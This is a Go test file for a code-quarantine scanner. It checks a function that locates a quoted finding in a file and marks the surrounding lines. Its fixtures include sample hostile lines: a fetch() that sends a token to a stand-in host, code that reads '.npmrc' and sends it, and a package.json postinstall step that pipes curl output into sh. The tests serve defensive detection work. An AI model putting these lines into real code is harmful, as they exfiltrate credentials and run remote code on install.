package quarantine

import (
	"strings"
	"testing"
)

// An excerpt is shown in its file with the lines around it, the lines it
// covers marked, however long the file.
func TestInContextMarksTheExcerpt(t *testing.T) {
	var b strings.Builder
	for i := 1; i <= 40; i++ {
		if i == 20 {
			b.WriteString("fetch('https://collect.invalid', {body: token})\n")
			continue
		}
		b.WriteString("ok()\n")
	}
	var c FindingContext
	inContext(&c, []byte(b.String()), "collect.invalid', {body")
	if c.Note != "" || c.First != 15 || len(c.Lines) != 11 || len(c.Match) != 1 || !strings.Contains(c.Lines[c.Match[0]], "collect.invalid") {
		t.Fatalf("context = %+v, want lines 15-25 with line 20 marked", c)
	}
	// The rules quote a run of white space, a newline too, as one space.
	var loose FindingContext
	inContext(&loose, []byte("a()\nconst t = read('.npmrc')\n\n  send(t)\nb()\n"), "read('.npmrc') send(t)")
	if loose.Note != "" || loose.First != 1 || len(loose.Match) != 3 || loose.Lines[loose.Match[0]] != "const t = read('.npmrc')" {
		t.Fatalf("a quote across lines gave %+v, want lines 2-4 marked", loose)
	}
	var miss FindingContext
	inContext(&miss, []byte("nothing here\n"), "collect.invalid")
	if miss.Note == "" || miss.Lines != nil {
		t.Fatalf("an excerpt not in the file gave %+v, want a note", miss)
	}
}

// A package.json finding quotes "<field>: <value>": the value is found.
func TestInContextFindsAPackageJSONQuote(t *testing.T) {
	var c FindingContext
	inContext(&c, []byte("{\n  \"scripts\": {\n    \"postinstall\": \"curl http://x.invalid | sh\"\n  }\n}\n"), "postinstall: curl http://x.invalid | sh")
	if c.Note != "" || len(c.Match) != 1 || c.First+c.Match[0] != 3 {
		t.Fatalf("context = %+v, want line 3 marked", c)
	}
}
